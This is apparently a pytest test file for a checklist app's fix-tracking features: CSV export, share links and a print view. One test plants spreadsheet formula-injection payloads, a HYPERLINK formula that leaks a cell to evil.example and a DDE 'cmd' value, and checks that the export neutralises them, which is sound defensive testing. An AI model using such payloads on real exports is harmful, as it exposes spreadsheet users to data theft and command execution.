import csv
import hashlib
import io
from datetime import date, datetime, timedelta

import pytest

from checkapp.fixes import services
from checkapp.models import Photo, ShareLink, utcnow
from checkapp.tokens import hash_token

TRICKY = 'Label "printed"; or not,\nreally'


@pytest.fixture
def data(db, make_checklist, make_run, make_answer):
    items = (
        dict(question=TRICKY, promise="", kind="yes_no", expected={"value": True}, severity=4, stage="delivery",
             department="logistics"),
        dict(question="Checkout page loads", promise="", kind="yes_no", expected={"value": True}, severity=3,
             stage="order", department="web"),
    )
    checklist = make_checklist(items=items)
    logistics_item, web_item = checklist.current_version.items
    run = make_run(checklists=[checklist], status="accepted", submitted_at=utcnow())
    make_answer(run, logistics_item, "mismatch")
    make_answer(run, web_item, "mismatch")
    services.apply_accepted_run(run)
    photos = {}
    for name, item in (("log", logistics_item), ("web", web_item)):
        photo = Photo(run_id=run.id, item_id=item.id, display_name=f"{name}.jpg", thumb_name=f"{name}_t.jpg",
                      width=10, height=10, byte_size=3, content_type="image/jpeg", sha256="0" * 64)
        db.session.add(photo)
        photos[name] = photo
    db.session.commit()
    return photos


def read_csv(body: bytes, delimiter: str):
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


@pytest.mark.parametrize("lang, delimiter, header", [("fr", ";", "Rang"), ("en", ",", "Rank")])
def test_csv_export_has_bom_separator_header_and_round_trips(client, manager, login, data, lang, delimiter, header):
    login(manager)
    response = client.get("/fixes/export.csv", headers={"Accept-Language": lang})
    assert response.mimetype == "text/csv"
    table = read_csv(response.data, delimiter)
    assert table[0][0] == header and len(table[0]) == 17  # 15, then the fix number and its link (issue 16)
    assert len(table) == 3
    assert {row[1] for row in table[1:]} == {TRICKY, "Checkout page loads"}


def test_csv_export_follows_the_filters(client, manager, login, data):
    login(manager)
    table = read_csv(client.get("/fixes/export.csv?department=web", headers={"Accept-Language": "en"}).data, ",")
    assert [row[1] for row in table[1:]] == ["Checkout page loads"]
    assert table[1][0] == "1"


def test_csv_export_never_hands_a_spreadsheet_a_formula(client, manager, login, data, db):
    from checkapp.models import CheckItem, Fix

    item = db.session.query(CheckItem).filter_by(question="Checkout page loads").one()
    item.question = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    fix = db.session.query(Fix).filter_by(item_key=item.item_key).one()
    fix.owner = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    login(manager)
    table = read_csv(client.get("/fixes/export.csv?department=web", headers={"Accept-Language": "en"}).data, ",")
    row = table[1]
    assert row[1] == "'" + item.question
    assert "'" + fix.owner in row
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("lang, delimiter", [("en", ","), ("fr", ";")])
def test_csv_export_has_sortable_iso_dates_the_fix_number_and_its_address(client, app, manager, login, data, db,
                                                                         monkeypatch, lang, delimiter):
    from checkapp.models import CheckItem, Fix, Run
    from checkapp.stats import services as stats

    item = db.session.query(CheckItem).filter_by(question="Checkout page loads").one()
    fix = db.session.query(Fix).filter_by(item_key=item.item_key).one()
    fix.due_date = date(2026, 12, 24)
    db.session.query(Run).one().submitted_at = datetime(2026, 11, 30, 23, 30)  # UTC: 1 December in Paris
    db.session.flush()
    stats.rebuild()  # the run's date was changed by hand: the statistics follow
    db.session.commit()
    monkeypatch.setitem(app.config, "BASE_URL", "https://check.example.org")
    login(manager)
    english = read_csv(client.get("/fixes/export.csv", headers={"Accept-Language": "en"}).data, ",")[0]
    table = read_csv(client.get("/fixes/export.csv?department=web", headers={"Accept-Language": lang}).data,
                     delimiter)
    row = dict(zip(english, table[1], strict=True))
    assert (row["Due date"], row["First seen"], row["Last seen"]) == ("2026-12-24", "2026-12-01", "2026-12-01")
    assert row["Fix number"] == str(fix.id)
    assert row["Link"] == f"https://check.example.org/fixes/{fix.id}"


def share(db, manager, department="logistics", expires_at=None):
    link, token = services.create_share(department, manager, expires_at)
    db.session.commit()
    return link, token


def test_share_link_shows_only_its_department_without_login(client, db, manager, data):
    link, token = share(db, manager)
    assert link.token_hash == hashlib.sha256(token.encode()).hexdigest() and token not in link.token_hash
    page = client.get(f"/share/{token}", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "Checkout page loads" not in page
    assert "Label &#34;printed&#34;" in page or "Label &quot;printed&quot;" in page
    assert f"/share/{token}/photos/{data['log'].id}/thumb" in page


def test_share_photo_route_serves_only_that_department_photos(client, app, db, manager, data):
    import os
    os.makedirs(app.config["PHOTO_DIR"], exist_ok=True)
    for name in ("log_t.jpg", "web_t.jpg"):
        with open(os.path.join(app.config["PHOTO_DIR"], name), "wb") as f:
            f.write(b"jpg")
    _, token = share(db, manager)
    data["log"].content_type = "image/heic"  # what was uploaded; the stored copies are JPEG
    db.session.commit()
    served = client.get(f"/share/{token}/photos/{data['log'].id}/thumb")
    assert served.status_code == 200 and served.mimetype == "image/jpeg"
    assert client.get(f"/share/{token}/photos/{data['web'].id}/thumb").status_code == 404
    assert client.get(f"/share/{token}/photos/{data['log'].id}/original").status_code == 404
    assert client.get(f"/share/nope/photos/{data['log'].id}/thumb").status_code == 404


def test_revoked_share_link_answers_410(client, db, manager, login, data):
    link, token = share(db, manager)
    login(manager)
    client.post(f"/fixes/shares/{link.id}/revoke")
    client.post("/logout")
    response = client.get(f"/share/{token}", headers={"Accept-Language": "en"})
    assert response.status_code == 410 and "revoked or has expired" in response.get_data(as_text=True)


def test_expired_share_link_answers_410_and_unknown_404(client, db, manager, data):
    _, token = share(db, manager, expires_at=utcnow() - timedelta(minutes=1))
    assert client.get(f"/share/{token}").status_code == 410
    assert client.get(f"/share/{token}x").status_code == 404


def test_manager_creates_a_share_link_and_sees_it_once(client, db, manager, login):
    login(manager)
    response = client.post("/fixes/shares", data={"department": "web"}, headers={"Accept-Language": "en"})
    page = response.get_data(as_text=True)
    link = db.session.query(ShareLink).one()
    assert link.department == "web" and "/share/" in page
    token = page.split("/share/")[1].split('"')[0]
    assert hash_token(token) == link.token_hash
    assert token not in client.get("/fixes/shares", headers={"Accept-Language": "en"}).get_data(as_text=True)


def test_a_new_share_link_uses_the_public_address_not_the_request(client, app, db, manager, login, monkeypatch):
    monkeypatch.setitem(app.config, "BASE_URL", "https://check.example.org")
    login(manager)
    page = client.post("/fixes/shares", data={"department": "web"}).get_data(as_text=True)
    assert "https://check.example.org/share/" in page and "http://localhost/share/" not in page


def test_print_view_lists_the_filtered_fixes(client, manager, login, data):
    login(manager)
    page = client.get("/fixes/print?department=web", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert "Checkout page loads" in page and "printed" not in page
